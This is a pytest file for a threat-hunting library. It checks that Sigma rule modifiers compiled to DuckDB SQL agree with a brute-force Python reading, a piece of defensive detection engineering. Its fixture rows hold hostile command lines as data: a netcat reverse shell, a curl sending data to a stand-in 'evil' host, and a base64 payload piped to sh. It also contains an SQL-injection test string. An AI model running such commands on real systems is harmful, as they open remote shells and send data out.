"""Sigma modifiers compiled to DuckDB agree with a brute-force reading of the same rule.

Each case is a detection item and the plain-Python meaning Sigma's specification gives it; both
are evaluated over the same tricky rows (wildcard and LIKE characters, quotes, case, NULLs).
"""

from __future__ import annotations

import base64
import ipaddress
import re

import duckdb
import pytest
from sigma.collection import SigmaCollection

from kernelsec_nb.hunt._backend import DuckDBBackend
from kernelsec_nb.hunt._pipeline import pipeline
from kernelsec_nb.hunt._sources import SOURCES, _ip4

ROWS = [
    ("/usr/bin/nc", "/usr/bin/nc -e /bin/sh 10.0.0.1 4444", "10.0.0.1", "4444"),
    ("/bin/bash", "/bin/bash -c 'echo 100%_done' -- x", "192.168.7.20", "80"),
    ("/BIN/SH", "/BIN/SH -i", "172.31.255.255", "6443"),
    ("/tmp/x_y", "/tmp/x_y a\\b*c?", "172.32.0.1", "53"),
    ("/usr/bin/curl", "curl http://evil/a?b=1 --data 'x'", "fe80::1", None),
    (None, None, None, None),
    ("/usr/bin/python3", "python3 -c import socket;connect()", "8.8.8.8", "1023"),
    ("/usr/bin/n\n", "x\n(x \u00c9T\u00c9 -I", "10.0.0.255", "1"),
    ("/x", "y", "10.0.0.1.5", "2"),
    ("/usr/bin/env", "/usr/bin/env", None, None),
    ("/bin/sh", "sh -c 'echo ZXZpbA== | base64 -d | sh'", None, None),
    ("/x", "y", "10.0.256.1", "3"),
]
COLUMNS = ("binary", "command_line", "dst_ip", "dst_port")


def _like(value: str | None, pattern: str, *, cased: bool = False) -> bool:
    if value is None:
        return False
    if not cased:
        value, pattern = value.lower(), pattern.lower()
    rx = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c) for c in pattern)
    return re.fullmatch(rx, value, re.S) is not None


def _cidr(value: str | None, net: str) -> bool:
    try:
        return value is not None and ipaddress.ip_address(value) in ipaddress.ip_network(net)
    except ValueError:
        return False


def _num(value: str | None) -> float | None:
    try:
        return float(value) if value is not None else None
    except ValueError:
        return None


CASES = {
    "eq": ("Image: /usr/bin/nc", lambda r: _like(r[0], "/usr/bin/nc")),
    "eq_case": ("Image: /bin/sh", lambda r: _like(r[0], "/bin/sh")),
    "contains": ("CommandLine|contains: '100%_d'", lambda r: _like(r[1], "*100%_d*")),
    "startswith": ("Image|startswith: /tmp/x_", lambda r: _like(r[0], "/tmp/x_*")),
    "endswith": ("Image|endswith: /nc", lambda r: _like(r[0], "*/nc")),
    "wildcards": ("CommandLine: '*-?*sh*'", lambda r: _like(r[1], "*-?*sh*")),
    "escaped_wildcard": ("CommandLine|endswith: 'a\\\\b\\*c\\?'", lambda r: r[1] is not None and r[1].lower().endswith("a\\b*c?")),
    "quote_dashes": ("CommandLine|contains: \"--data 'x'\"", lambda r: _like(r[1], "*--data 'x'*")),
    "list_or": ("Image|endswith: [/nc, /curl]", lambda r: _like(r[0], "*/nc") or _like(r[0], "*/curl")),
    "all": ("CommandLine|contains|all: [socket, connect]",
            lambda r: _like(r[1], "*socket*") and _like(r[1], "*connect*")),
    "cased": ("Image|cased: /BIN/SH", lambda r: _like(r[0], "/BIN/SH", cased=True)),
    "cased_contains": ("CommandLine|contains|cased: SH", lambda r: _like(r[1], "*SH*", cased=True)),
    "re": ("CommandLine|re: '-[ce] '", lambda r: r[1] is not None and re.search("-[ce] ", r[1]) is not None),
    "re_i": ("CommandLine|re|i: '^/bin/sh'", lambda r: r[1] is not None and re.search("(?i)^/bin/sh", r[1]) is not None),
    "cidr": ("DestinationIp|cidr: 172.16.0.0/12", lambda r: _cidr(r[2], "172.16.0.0/12")),
    "cidr_list": ("DestinationIp|cidr: [10.0.0.0/8, 192.168.0.0/16]",
                  lambda r: _cidr(r[2], "10.0.0.0/8") or _cidr(r[2], "192.168.0.0/16")),
    "num": ("DestinationPort: 6443", lambda r: _num(r[3]) == 6443),
    "lt": ("DestinationPort|lt: 1024", lambda r: (_num(r[3]) or 10**9) < 1024),
    "gte": ("DestinationPort|gte: 4444", lambda r: _num(r[3]) is not None and _num(r[3]) >= 4444),
    "exists": ("DestinationPort|exists: true", lambda r: r[3] is not None),
    "not_exists": ("DestinationPort|exists: false", lambda r: r[3] is None),
    "null": ("Image: null", lambda r: r[0] is None),
    # a list of values for one field is one regex alternation: every character must stay literal
    "list_tricky": ("CommandLine|contains: ['100%_d', 'a\\\\b\\*c\\?', \"--data 'x'\", '.0.0.', '(x', ' -I']",
                    lambda r: any(_like(r[1], p) for p in ("*100%_d*", "*--data 'x'*", "*.0.0.*", "*(x*", "* -i*"))
                    or (r[1] is not None and "a\\b*c?" in r[1].lower())),
    "list_wildcards": ("Image: ['/usr/bin/n?', '*/b?sh', '/tmp/*_y', a, b, c]",
                       lambda r: any(_like(r[0], p) for p in ("/usr/bin/n?", "*/b?sh", "/tmp/*_y"))),
    "list_short": ("Image|endswith: [/nc, /sh]", lambda r: _like(r[0], "*/nc") or _like(r[0], "*/sh")),
    "list_cased": ("Image|cased: ['/BIN/SH', /bin/bash, a, b, c, d]",
                   lambda r: _like(r[0], "/BIN/SH", cased=True) or _like(r[0], "/bin/bash", cased=True)),
    "list_numbers": ("DestinationPort: [80, 6443, 1]", lambda r: _num(r[3]) in (80, 6443, 1)),
    "string_on_number": ("DestinationPort|startswith: '44'", lambda r: r[3] is not None and r[3].startswith("44")),
    "list_unicode": ("CommandLine|contains: ['\u00e9t\u00e9', 'SOCKET', zz1, zz2, zz3, zz4]",
                     lambda r: _like(r[1], "*\u00e9t\u00e9*") or _like(r[1], "*socket*")),
    "neq": ("Image|neq: /bin/bash", lambda r: not _like(r[0], "/bin/bash")),
    "fieldref": ("CommandLine|fieldref: Image", lambda r: r[0] is not None and r[1] is not None
                 and r[0].lower() == r[1].lower()),
    "base64_contains": ("CommandLine|base64|contains: evil",
                        lambda r: _like(r[1], "*" + base64.b64encode(b"evil").decode() + "*")),
    "windash": ("CommandLine|windash|contains: ' -c '",
                lambda r: any(_like(r[1], f"* {d}c *") for d in ("-", "/", "\u2013", "\u2014", "\u2015"))),
}


def _compile(item: str, condition: str = "sel", *, ip4: bool = True) -> tuple[str, dict]:
    rule = SigmaCollection.from_yaml(
        "title: t\nlogsource: {category: network_connection, product: linux}\n"
        f"detection:\n  sel:\n    {item}\n  condition: {condition}\n").rules[0]
    source = SOURCES["network_connection"]
    return DuckDBBackend(pipeline()).to_sql(rule, "r0", source.columns, source.numeric,
                                            source.ip4 if ip4 else frozenset())


@pytest.fixture(scope="module")
def con():
    c = duckdb.connect()
    c.execute("CREATE TABLE v (i INTEGER, " + ", ".join(f'"{x}" VARCHAR' for x in COLUMNS[:-1]) + ", dst_port BIGINT)")
    c.executemany("INSERT INTO v VALUES (?, ?, ?, ?, ?)", [(i, *r) for i, r in enumerate(ROWS)])
    c.execute(f"ALTER TABLE v ADD COLUMN dst_ip4 UBIGINT; UPDATE v SET dst_ip4 = {_ip4('dst_ip')}")  # noqa: S608
    return c


@pytest.mark.parametrize("name", sorted(CASES))
@pytest.mark.parametrize("negate", [False, True])
def test_modifier_matches_brute_force(con, name: str, negate: bool) -> None:
    item, meaning = CASES[name]
    sql, params = _compile(item, "not sel" if negate else "sel")
    got = {i for (i,) in con.execute(f"SELECT i FROM v WHERE {sql}", params).fetchall()}  # noqa: S608
    want = {i for i, r in enumerate(ROWS) if meaning(r) != negate}
    assert got == want, (item, sql, params)


@pytest.mark.parametrize("name", ["cidr", "cidr_list"])
def test_cidr_without_the_integer_column(con, name: str) -> None:
    item, meaning = CASES[name]
    sql, params = _compile(item, ip4=False)
    assert "dst_ip4" not in sql
    got = {i for (i,) in con.execute(f"SELECT i FROM v WHERE {sql}", params).fetchall()}  # noqa: S608
    assert got == {i for i, r in enumerate(ROWS) if meaning(r)}


def test_values_are_parameters_never_sql_text() -> None:
    sql, params = _compile("CommandLine|contains: \"'; DROP TABLE v; --\"")
    assert "DROP" not in sql and "--" not in sql and "'" not in sql
    assert params == {"r0_0": "%'; DROP TABLE v; --%"}


def test_long_lists_are_one_regex_short_ones_ilikes() -> None:
    sql, params = _compile("CommandLine|contains: [a, b, c, d, e, f]")
    assert sql.startswith("regexp_matches(") and len(params) == 1
    sql, params = _compile("CommandLine|contains: [a, b]")
    assert sql.count("ILIKE") == 2 and "regexp" not in sql


def test_binary_is_quoted() -> None:
    sql, _ = _compile("Image|endswith: /sh")
    assert sql.startswith('"binary" ILIKE $r0_0')


@pytest.mark.parametrize("item, words", [
    ("Image|expand: '%var%'", ["placeholder"]),
    ("Hashes|contains: abc", ["Hashes"]),
])
def test_unsupported_names_the_reason(item: str, words: list[str]) -> None:
    with pytest.raises(Exception) as err:
        _compile(item)
    assert all(w.lower() in str(err.value).lower() for w in words), str(err.value)
